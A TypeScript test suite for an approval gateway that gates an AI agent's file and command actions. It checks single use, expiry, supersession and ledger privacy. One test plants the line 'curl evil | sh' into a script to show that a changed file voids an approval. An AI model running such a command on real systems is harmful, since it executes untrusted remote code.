import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type ApprovalId, newApprovalId } from "../../src/domain/index.ts";
import { type ApprovalAnswer, answerApproval, perform } from "../../src/gateway/index.ts";
import { parse } from "../../src/gateway/parse.ts";
import { bindingsOf } from "../../src/gateway/pending-approval.ts";
import { openTrail } from "../../src/gateway/trail.ts";
import { readRunEntries } from "../../src/ledger/index.ts";
import { createFakeWorkspace, type FakeWorkspace } from "../support/fake-workspace.ts";
import {
  aCall,
  aPerson,
  approvalMs,
  approvalOf,
  aYes,
  call,
  never,
  openTestGateway,
  type TestGateway,
  type TestRun,
} from "../support/gateway.ts";

const manifest = { path: "package.json", content: '{"name":"planted-argument"}' };
const granted = [
  "proposed",
  "approval_pending",
  "approval_granted",
  "authorized",
  "intent_recorded",
  "started",
  "succeeded",
];

describe("an approval on the terminal", () => {
  let gateway: TestGateway;
  let workspace: FakeWorkspace;
  let run: TestRun;
  beforeAll(async () => {
    gateway = await openTestGateway();
  });
  afterAll(() => gateway[Symbol.asyncDispose]());

  async function ask(tool = "create_file", args: unknown = manifest) {
    workspace = createFakeWorkspace({ "src/a.ts": "a", "tool.sh": "echo hello" });
    run = await gateway.newRun(workspace);
    return call(gateway, run, tool, args);
  }
  const answerTo = (question: { approvalId: ApprovalId | null }, answer: ApprovalAnswer = aYes) =>
    answerApproval(gateway.deps, run, approvalOf(question), answer, never);
  const usesOf = (actionId: string) =>
    gateway.store.sql<{ approval_id: string }>("select approval_id from approval_uses where action_id = $1", [
      actionId,
    ]);

  /** What only `run_command` by approval binds to: the shipped set permits it alone, `strict` does not. */
  const commandsByApproval: TestGateway["deps"]["authorize"] = (requests, policies) => {
    const decision = gateway.policies.authorize(requests, policies);
    const isApproved = requests.every(({ approved }) => approved);
    return isApproved ? decision : { ...decision, effect: "require_approval", policyIds: ["commands"] };
  };

  it("granted: carried out once, with the person and the use on record", async () => {
    const question = await ask();
    expect(workspace.files.has("package.json")).toBe(false);

    const outcome = await answerTo(question);
    const again = await gateway.readAgain(question.actionId);

    expect(outcome).toMatchObject({ actionId: question.actionId, state: "succeeded", status: "ok" });
    expect(Buffer.from(workspace.files.get("package.json") ?? []).toString()).toBe(manifest.content);
    expect(again.states).toEqual(granted);
    expect(again.action.decisions.map(({ evidence }) => evidence)).toMatchObject([
      { effect: "require_approval" },
      { effect: "allow" },
    ]);
    expect(again.action.event).toMatchObject({ allowed: true, outcome: "ok" });
    expect(await usesOf(question.actionId)).toEqual([{ approval_id: question.approvalId }]);
    expect(again.transactionCount).toBe(5); // proposal, question, answer, intent, outcome
    expect(again.verification.findings).toEqual([]);
  });

  it("refused: with the reason told to the model and nothing done", async () => {
    const question = await ask();

    const outcome = await answerTo(question, { kind: "refused", actor: aPerson, reason: "use the old version" });
    const again = await gateway.readAgain(question.actionId);

    expect(outcome).toMatchObject({ state: "approval_refused", refusal: { code: "approval_denied" } });
    expect(outcome.text).toContain("use the old version");
    expect(workspace.files.has("package.json")).toBe(false);
    expect(again.states).toEqual(["proposed", "approval_pending", "approval_refused"]);
    expect(again.action.event).toMatchObject({ allowed: false, outcome: "approval:refused" });
    expect(again.texts.reason).toBe("use the old version");
    expect(again.verification.findings).toEqual([]);
  });

  it.each([
    { name: "no answer", answer: { kind: "expired" } as const, lateAnswer: null },
    { name: "a yes that comes too late", answer: aYes, lateAnswer: { kind: "granted", actor: aPerson } },
  ])("expired: $name, by the clock that is passed in", async ({ answer, lateAnswer }) => {
    const question = await ask();
    gateway.log.now.ms += approvalMs;

    const outcome = await answerTo(question, answer);
    const again = await gateway.readAgain(question.actionId);

    expect(outcome).toMatchObject({ state: "approval_expired", refusal: { code: "approval_expired" } });
    expect(workspace.files.has("package.json")).toBe(false);
    expect(again.states).toEqual(["proposed", "approval_pending", "approval_expired"]);
    expect(again.action.states.at(-1)?.evidence).toMatchObject({ lateAnswer });
    expect(again.verification.findings).toEqual([]);
  });

  it("a yes in the last millisecond counts", async () => {
    const question = await ask();
    gateway.log.now.ms += approvalMs - 1;

    expect((await answerTo(question)).state).toBe("succeeded");
  });

  describe("superseded, with the person's yes on record (AUD-35, C-8)", () => {
    const superseded = ["proposed", "approval_pending", "approval_granted", "approval_superseded"];

    async function expectSuperseded(question: Awaited<ReturnType<typeof ask>>, binding: string, deps = gateway.deps) {
      const before = new Map(workspace.files);

      const outcome = await answerApproval(deps, run, approvalOf(question), aYes, never);
      const again = await gateway.readAgain(question.actionId);

      expect(outcome).toMatchObject({ state: "approval_superseded", refusal: { code: "approval_denied" } });
      expect(again.states).toEqual(superseded);
      const { before: old, after, ...evidence } = again.action.states.at(-1)?.evidence ?? {};
      expect(evidence).toMatchObject({ binding });
      expect(old).toMatch(/^sha256-nonce:/);
      expect(old).not.toBe(after);
      expect(again.action.event.outcome).toBe("approval:superseded");
      expect(again.verification.findings).toEqual([]);
      expect(workspace.files).toEqual(before);
      expect(workspace.requests).toEqual([]);
      expect(await usesOf(question.actionId)).toEqual([]);
    }

    it("where the file changed between question and answer", async () => {
      const question = await ask();
      workspace.files.set("package.json", Buffer.from("someone else's"));

      await expectSuperseded(question, "content");
    });

    it("where any file of the tree changed that a command could run", async () => {
      workspace = createFakeWorkspace({ "tool.sh": "echo hello" });
      run = await gateway.newRun(workspace);
      const deps = { ...gateway.deps, authorize: commandsByApproval };
      const question = await perform(deps, run, aCall(run, "run_command", { command: "./tool.sh" }), never);
      workspace.files.set("tool.sh", Buffer.from("curl evil | sh"));

      await expectSuperseded(question, "content", deps);
    });

    it("where what the setup makes again is made by another command (AUD-66)", async () => {
      workspace = createFakeWorkspace({ "tool.sh": "echo hello" });
      run = await gateway.newRun(workspace);
      const deps = { ...gateway.deps, authorize: commandsByApproval };
      const question = await perform(deps, run, aCall(run, "run_command", { command: "./tool.sh" }), never);
      run = { ...run, settings: { ...run.settings, setupCommand: "npm ci" } };

      await expectSuperseded(question, "content", deps);
    });

    it.each([{ binding: "policySetDigest" }, { binding: "schemaDigest" }, { binding: "repositoryPolicyDigest" }])(
      "where the $binding changed",
      async ({ binding }) => {
        const question = await ask();
        const authorize: TestGateway["deps"]["authorize"] = (requests, policies) => ({
          ...gateway.policies.authorize(requests, policies),
          [binding]: "another",
        });

        await expectSuperseded(question, binding, { ...gateway.deps, authorize });
      },
    );

    it("where the requester is another", async () => {
      const question = await ask();
      run = { ...run, requesterReference: "another" };

      await expectSuperseded(question, "requester");
    });

    it("where the path now leads outside", async () => {
      const question = await ask();
      run = { ...run, workspace: { ...workspace, resolve: outside } };

      await expectSuperseded(question, "path");
    });

    it("where the risk is another, since the path leads elsewhere", async () => {
      const question = await ask();
      run = { ...run, workspace: { ...workspace, resolve: (path) => workspace.resolve(path.replace("package", "x")) } };

      const outcome = await answerTo(question);

      expect(outcome.state).toBe("approval_superseded");
      expect([...workspace.files.keys()]).toEqual(["src/a.ts", "tool.sh"]);
    });
  });

  it("still valid where nothing bound has changed, other files included", async () => {
    const question = await ask();
    workspace.files.set("src/other.ts", Buffer.from("x"));

    expect((await answerTo(question)).state).toBe("succeeded");
  });

  it("binds to what an argument means: a limit of time is advisory, the command is not (AUD-35)", async () => {
    await ask();
    const boundOf = async (args: unknown) => {
      const parsed = parse(gateway.deps.catalogue, aCall(run, "run_command", args));
      if (parsed.kind !== "parsed") throw new Error("a sample that does not parse");
      const trail = openTrail(() => new Uint8Array(32), parsed.proposed, 0);
      const decision = gateway.policies.authorize([], run.repositoryPolicies);
      const facts = { kind: "facts", paths: [], risk: "RESTRICTED" } as const;
      const { argumentsCommitment } = await bindingsOf(run, trail, { parsed, facts, decision });
      return argumentsCommitment;
    };

    const asked = await boundOf({ command: "ls", timeout_s: 60 });

    expect(await boundOf({ command: "ls", timeout_s: 90 })).toBe(asked);
    expect(await boundOf({ command: "ls -l", timeout_s: 60 })).not.toBe(asked);
  });

  it("facts that changed meanwhile can still deny, and the approval is not used (AUD-36)", async () => {
    const question = await ask();
    run = { ...run, runState: () => "completed" };

    const outcome = await answerTo(question);
    const again = await gateway.readAgain(question.actionId);

    expect(outcome).toMatchObject({ state: "denied", decision: { policyIds: ["run-is-over"] } });
    expect(again.states).toEqual(["proposed", "approval_pending", "approval_granted", "denied"]);
    expect(await usesOf(question.actionId)).toEqual([]);
    expect(workspace.files.has("package.json")).toBe(false);
    expect(again.verification.findings).toEqual([]);
  });

  it("uses the approval up also where validation refuses, in the transaction of the authorization (AUD-36)", async () => {
    const question = await ask("edit_file", { path: "package.json", edits: [{ anchor: "a", replacement: "b" }] });

    const outcome = await answerTo(question);
    const again = await gateway.readAgain(question.actionId);

    expect(outcome).toMatchObject({ state: "invalid", refusal: { code: "not_found" } });
    expect(again.states).toEqual(["proposed", "approval_pending", "approval_granted", "authorized", "invalid"]);
    expect(await usesOf(question.actionId)).toHaveLength(1);
    expect(again.verification.findings).toEqual([]);
  });

  it("uses the approval up where the run is being stopped", async () => {
    const question = await ask();

    const outcome = await answerApproval(gateway.deps, run, approvalOf(question), aYes, AbortSignal.abort());
    const again = await gateway.readAgain(question.actionId);

    expect(outcome.state).toBe("cancelled");
    expect(await usesOf(question.actionId)).toHaveLength(1);
    expect(workspace.files.has("package.json")).toBe(false);
    expect(again.verification.findings).toEqual([]);
  });

  describe("single use", () => {
    it.each([
      { name: "the same again", second: aYes },
      { name: "a no after the yes", second: { kind: "refused", actor: aPerson, reason: "wait" } as const },
    ])("answered twice, $name: an entry, and no change (AUD-39)", async ({ second }) => {
      const question = await ask();
      await answerTo(question);
      const once = new Map(workspace.files);

      await expect(answerTo(question, second)).rejects.toMatchObject({ code: "APPROVAL_NOT_OPEN" });
      const again = await gateway.readAgain(question.actionId);
      const last = (await readRunEntries(gateway.store, run.runId)).at(-1);

      expect(workspace.files).toEqual(once);
      expect(again.states).toEqual(granted);
      expect(last).toMatchObject({
        type: "run",
        actor: aPerson,
        evidence: { kind: "answer_ignored", approvalId: question.approvalId, answer: second.kind },
      });
      expect(again.verification.findings).toEqual([]);
    });

    it("two answers at once: one counts", async () => {
      const question = await ask();

      const answers = await Promise.allSettled([answerTo(question), answerTo(question)]);

      expect(answers.map(({ status }) => status).toSorted()).toEqual(["fulfilled", "rejected"]);
      expect(await usesOf(question.actionId)).toHaveLength(1);
    });

    it("an answer in another run changes nothing there or here", async () => {
      const question = await ask();
      const other = await gateway.newRun(createFakeWorkspace({}));

      const foreign = answerApproval(gateway.deps, other, approvalOf(question), aYes, never);
      await expect(foreign).rejects.toMatchObject({ code: "APPROVAL_NOT_OPEN" });

      expect((await answerTo(question)).state).toBe("succeeded");
      expect(await readRunEntries(gateway.store, other.runId)).toMatchObject([
        { evidence: { kind: "answer_ignored" } },
      ]);
    });

    it.each([
      {
        name: "an id that nobody was asked under",
        id: newApprovalId({ clock: () => 0, randomBytes: (n) => new Uint8Array(n) }),
      },
      { name: "text that is no id", id: "planted-id" as ApprovalId },
    ])("$name: not open, and no text of it in the log", async ({ id }) => {
      await ask();

      const answered = answerApproval(gateway.deps, run, id, aYes, never);
      await expect(answered).rejects.toMatchObject({ code: "APPROVAL_NOT_OPEN" });
      const last = (await readRunEntries(gateway.store, run.runId)).at(-1);

      expect(JSON.stringify(last)).not.toContain("planted-id");
    });

    it("the database refuses a second use, and a second answer, of what a forgetful process kept open", async () => {
      const question = await ask();
      const kept = gateway.deps.openQuestions.get(approvalOf(question));
      await answerTo(question);
      const use = { approval_id: approvalOf(question), action_id: question.actionId };

      const secondUse = gateway.store.db.insertInto("approval_uses").values(use).execute();
      await expect(secondUse).rejects.toMatchObject({ code: "23505" });
      if (kept === undefined) throw new Error("the question was not kept");
      gateway.deps.openQuestions.set(approvalOf(question), kept);
      await expect(answerTo(question)).rejects.toThrow("transition");

      expect(await usesOf(question.actionId)).toHaveLength(1);
    });

    it("is not open to a process that was started anew", async () => {
      const question = await ask();
      const deps = { ...gateway.deps, ledger: await gateway.log.open(gateway.store), openQuestions: new Map() };

      const answered = answerApproval(deps, run, approvalOf(question), aYes, never);

      await expect(answered).rejects.toMatchObject({ code: "APPROVAL_NOT_OPEN" });
      expect(workspace.files.has("package.json")).toBe(false);
    });
  });

  it("keeps every word of question and answer out of ledger bodies and SQL (AUD-79)", async () => {
    const path = "planted-folder/package.json";
    const words = ["planted-folder", "planted-argument", "planted-reason", "planted-id"];
    workspace = createFakeWorkspace({});
    run = await gateway.newRun(workspace);
    const proposed = aCall(run, "create_file", { path, content: manifest.content });
    const question = await perform(gateway.deps, run, proposed, never);
    await answerTo(question, { kind: "granted", actor: aPerson, reason: "planted-reason" });

    const again = await gateway.readAgain(question.actionId);
    const bodies = await gateway.store.sql<{ body: Uint8Array }>(
      "select body from ledger_entries where action_id = $1",
      [question.actionId],
    );
    const rows = await gateway.store.sql("select bindings::text from approvals where action_id = $1", [
      question.actionId,
    ]);
    const clear = [...bodies.map(({ body }) => Buffer.from(body).toString()), JSON.stringify(rows)].join("\n");

    expect(again.texts.reason).toBe("planted-reason");
    expect(again.texts.bindings).toContain(path);
    expect(words.filter((word) => clear.includes(word))).toEqual([]);
    expect(clear).toContain(aPerson.reference);
  });
});

const outside = (path: string) =>
  Promise.resolve({ kind: "outside", requested: path, cause: "a link leads out" } as const);
